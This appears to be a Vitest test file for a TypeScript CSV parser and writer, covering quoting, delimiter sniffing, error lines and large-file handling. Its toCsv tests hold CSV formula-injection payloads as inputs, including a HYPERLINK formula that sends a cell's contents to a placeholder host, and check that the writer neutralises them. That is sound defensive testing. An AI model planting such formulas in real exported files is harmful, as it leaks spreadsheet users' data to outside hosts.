import { describe, expect, it } from 'vitest';
import { neutralizeFormula, parseCsv, toCsv, unneutralizeFormula, type CsvParseResult, type CsvTable } from './csv';

function ok(r: CsvParseResult): CsvTable {
  if (!r.ok) throw new Error(`expected a table, got ${r.error.message}`);
  return r;
}
const cells = (text: string) => ok(parseCsv(text)).records.map((r) => r.cells);

/** Deterministic PRNG (mulberry32) so generated inputs are the same on every run. */
function rng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

describe('parseCsv: RFC 4180 basics', () => {
  it('splits plain cells and records', () => {
    expect(cells('a,b,c\n1,2,3\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
  });

  it('reads quoted cells with delimiters, escaped quotes and empty quoted cells', () => {
    expect(cells('name,note\n"Rahmat, Budi","He said ""halo"""\n"",x\n')).toEqual([
      ['name', 'note'],
      ['Rahmat, Budi', 'He said "halo"'],
      ['', 'x'],
    ]);
  });

  it('keeps LF, CRLF and CR inside quoted cells and counts lines for the records after them', () => {
    const t = ok(parseCsv('h1,h2\r\n"one\ntwo",x\r\n"three\r\nfour",y\r\n"five\rsix",z\r\nlast,row'));
    expect(t.records.map((r) => r.cells)).toEqual([
      ['h1', 'h2'],
      ['one\ntwo', 'x'],
      ['three\r\nfour', 'y'],
      ['five\rsix', 'z'],
      ['last', 'row'],
    ]);
    expect(t.records.map((r) => r.line)).toEqual([1, 2, 4, 6, 8]);
  });

  it('accepts LF, CRLF and lone CR as record ends', () => {
    expect(cells('a,b\rc,d\r\ne,f\ng,h')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
      ['g', 'h'],
    ]);
  });

  it('strips a UTF-8 BOM so the first header is not "\\ufeffName"', () => {
    const t = ok(parseCsv('\ufeffName,Email\nSiti,siti@contoh.id\n'));
    expect(t.records[0]!.cells).toEqual(['Name', 'Email']);
  });

  it('a trailing newline adds no record; a trailing delimiter adds an empty cell', () => {
    expect(cells('a,b\n1,2\n')).toHaveLength(2);
    expect(cells('a,b\n1,2')).toHaveLength(2);
    expect(cells('a,b,\n1,2,\n')).toEqual([
      ['a', 'b', ''],
      ['1', '2', ''],
    ]);
    expect(cells('a,b\n1,')).toEqual([
      ['a', 'b'],
      ['1', ''],
    ]);
  });

  it('blank lines are not records, a line of delimiters is', () => {
    const t = ok(parseCsv('a,b\n\n1,2\n\r\n,\n\n'));
    expect(t.records.map((r) => r.cells)).toEqual([
      ['a', 'b'],
      ['1', '2'],
      ['', ''],
    ]);
    expect(t.records.map((r) => r.line)).toEqual([1, 3, 5]);
  });

  it('empty input is an empty table', () => {
    expect(ok(parseCsv('')).records).toEqual([]);
    expect(ok(parseCsv('\ufeff')).records).toEqual([]);
    expect(ok(parseCsv('\n\r\n')).records).toEqual([]);
  });

  it('is lenient with stray quotes the way spreadsheets are', () => {
    expect(cells('size,label\n5" screen,ok\n"ab"c,d\n')).toEqual([
      ['size', 'label'],
      ['5" screen', 'ok'],
      ['abc', 'd'],
    ]);
  });
});

describe('parseCsv: delimiter sniffing', () => {
  it.each([
    [',', 'Name,Company,Email\nAyu,PT Maju,ayu@contoh.id\n'],
    [';', 'Name;Company;Email\nAyu;PT Maju, Tbk;ayu@contoh.id\n'],
    ['\t', 'Name\tCompany\tEmail\nAyu\tPT Maju, Tbk\tayu@contoh.id\n'],
    ['|', 'Name|Company|Email\nAyu|PT Maju; Tbk|ayu@contoh.id\n'],
  ] as const)('detects %j', (d, text) => {
    const t = ok(parseCsv(text));
    expect(t.delimiter).toBe(d);
    expect(t.records[1]!.cells).toHaveLength(3);
    expect(t.ragged).toEqual([]);
  });

  it('only counts delimiters outside quotes on the header line', () => {
    const t = ok(parseCsv('"Name, full";"Company, legal";Email\n"Ayu, S.E.";PT Maju;ayu@contoh.id\n'));
    expect(t.delimiter).toBe(';');
    expect(t.records[1]!.cells).toEqual(['Ayu, S.E.', 'PT Maju', 'ayu@contoh.id']);
  });

  it('ties go to the comma', () => {
    expect(ok(parseCsv('a,b;c\n')).delimiter).toBe(',');
  });

  it('passes over a preamble and points at the header (LinkedIn Connections.csv)', () => {
    const text =
      'Notes:\r\n' +
      '"When exporting your connection data, you may notice that some of the email addresses are missing."\r\n' +
      '\r\n' +
      'First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n' +
      'Dewi,Lestari,https://www.linkedin.com/in/dewi-lestari-contoh,,PT Contoh,Head of Sales,01 Mar 2024\r\n';
    const t = ok(parseCsv(text));
    expect(t.delimiter).toBe(',');
    expect(t.headerIndex).toBe(2);
    expect(t.records[t.headerIndex]!.line).toBe(4);
    expect(t.records[t.headerIndex]!.cells[0]).toBe('First Name');
    expect(t.ragged).toEqual([]);
  });

  it('a single-column file falls back to the comma and the first record as header', () => {
    const t = ok(parseCsv('Email\na@contoh.id\nb@contoh.id\n'));
    expect(t.delimiter).toBe(',');
    expect(t.headerIndex).toBe(0);
    expect(t.records).toHaveLength(3);
  });

  it('a given delimiter skips sniffing', () => {
    const t = ok(parseCsv('a;b,c\n1;2,3\n', { delimiter: ';' }));
    expect(t.records[1]!.cells).toEqual(['1', '2,3']);
  });
});

describe('parseCsv: broken input', () => {
  it('reports ragged records with their line instead of dropping them', () => {
    const t = ok(parseCsv('a,b,c\n1,2,3\n4,5\n6,7,8,9\n"x\ny",2,3\n'));
    expect(t.records).toHaveLength(5);
    expect(t.ragged).toEqual([
      { index: 2, line: 3, cells: 2, expected: 3 },
      { index: 3, line: 4, cells: 4, expected: 3 },
    ]);
  });

  it('an unterminated quote is an error naming the line it opened on', () => {
    const r = parseCsv('a,b\n1,2\n3,"never closed\n4,5\n6,7\n');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('unterminated-quote');
    expect(r.error.line).toBe(3);
    expect(r.error.message).toContain('line 3');
  });

  it('the line number counts newlines inside earlier quoted cells', () => {
    const r = parseCsv('a,b\n"x\r\ny\rz",2\n"open');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.line).toBe(5);
  });
});

describe('parseCsv: 10 MB', () => {
  it('parses a generated 10 MB file with quotes and newlines correctly', () => {
    const header = 'id,name,note,value';
    const parts: string[] = [header];
    let i = 0;
    let size = header.length;
    while (size < 10 * 1024 * 1024) {
      const row =
        i % 3 === 0
          ? `${i},"Orang ${i}, Jr.","line one\r\nline ""two""",${i * 7}`
          : i % 3 === 1
            ? `${i},Orang ${i},plain note ${'x'.repeat(40)},${-i}`
            : `${i},"Orang ${i}",,${i}.5`;
      parts.push(row);
      size += row.length + 2;
      i++;
    }
    const text = parts.join('\r\n') + '\r\n';
    expect(text.length).toBeGreaterThanOrEqual(10 * 1024 * 1024);
    const t = ok(parseCsv(text));
    expect(t.records).toHaveLength(i + 1);
    expect(t.ragged).toEqual([]);
    const at = (k: number) => t.records[k + 1]!.cells;
    expect(at(0)).toEqual(['0', 'Orang 0, Jr.', 'line one\r\nline "two"', '0']);
    expect(at(1)).toEqual(['1', 'Orang 1', `plain note ${'x'.repeat(40)}`, '-1']);
    const last = i - 1;
    expect(at(last)[0]).toBe(String(last));
    // Every third record spans two physical lines.
    expect(t.records[t.records.length - 1]!.line).toBe(1 + i + Math.ceil(i / 3));
  });

  it('an unterminated quote at the start of a 10 MB file fails fast with line 2', () => {
    const text = 'a,b\n"' + 'x,y\n'.repeat(2_700_000);
    const r = parseCsv(text);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.line).toBe(2);
  });
});

describe('toCsv', () => {
  it('quotes only when needed and ends every record with CRLF', () => {
    expect(
      toCsv([
        ['Name', 'Note'],
        ['Ayu, S.E.', 'said "halo"'],
        ['multi\nline', 'cr\ronly'],
        ['plain', null],
      ]),
    ).toBe('Name,Note\r\n"Ayu, S.E.","said ""halo"""\r\n"multi\nline","cr\ronly"\r\nplain,\r\n');
  });

  it('quotes for the chosen delimiter and adds a BOM on request', () => {
    expect(toCsv([['a;b', 'c,d']], { delimiter: ';', bom: true })).toBe('\ufeff"a;b";c,d\r\n');
  });

  it.each(['=1+1', '+62 812 0000', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'])(
    'neutralises the text cell %j against formula injection',
    (cell) => {
      const out = toCsv([[cell]]);
      const back = ok(parseCsv(out, { delimiter: ',' })).records[0]!.cells[0]!;
      expect(back.startsWith("'")).toBe(true);
      expect(back.slice(1)).toBe(cell);
      expect(unneutralizeFormula(back)).toBe(cell);
    },
  );

  it('leaves numbers it writes itself readable, negative ones too', () => {
    expect(toCsv([[-1500.5, 0, 2500000, Number.NaN, true]])).toBe('-1500.5,0,2500000,,true\r\n');
  });

  it('does not touch harmless text', () => {
    for (const s of ['Siti', "O'Brien", 'a=b', 'x-y', 'mail@contoh.id']) expect(neutralizeFormula(s)).toBe(s);
    expect(unneutralizeFormula("O'Brien")).toBe("O'Brien");
    expect(unneutralizeFormula("'")).toBe("'");
  });

  it('keeps a row of one empty cell', () => {
    const t = ok(parseCsv(toCsv([['a'], [''], ['b']])));
    expect(t.records.map((r) => r.cells)).toEqual([['a'], [''], ['b']]);
  });

  it('round-trips generated hostile text through parseCsv for every delimiter', () => {
    const next = rng(7);
    const alphabet = ['a', 'Z', ' ', ',', ';', '\t', '|', '"', '\n', '\r', '\r\n', '=', '+', '-', '@', 'é', '漢', '😀', "'", '<b>'];
    for (const delimiter of [',', ';', '\t', '|'] as const) {
      const rows: string[][] = [];
      for (let r = 0; r < 300; r++) {
        const row: string[] = [];
        for (let c = 0; c < 5; c++) {
          let s = '';
          const len = Math.floor(next() * 12);
          for (let k = 0; k < len; k++) s += alphabet[Math.floor(next() * alphabet.length)];
          // A genuine leading apostrophe before a formula character is the one text neutralising cannot tell apart.
          if (s.startsWith("'")) s = 'x' + s;
          row.push(s);
        }
        rows.push(row);
      }
      const t = ok(parseCsv(toCsv(rows, { delimiter }), { delimiter }));
      expect(t.records.map((rec) => rec.cells.map(unneutralizeFormula))).toEqual(rows);
    }
  });
});
